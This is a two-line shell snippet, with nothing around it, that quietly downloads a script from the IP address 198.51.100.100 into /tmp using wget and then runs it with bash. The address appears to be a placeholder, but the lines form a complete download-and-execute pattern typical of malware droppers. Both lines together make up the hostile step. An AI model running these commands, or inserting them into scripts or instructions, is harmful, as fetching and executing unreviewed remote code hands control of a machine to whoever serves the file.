wget -q http://198.51.100.100/a.sh -O /tmp/a.sh
bash /tmp/a.sh
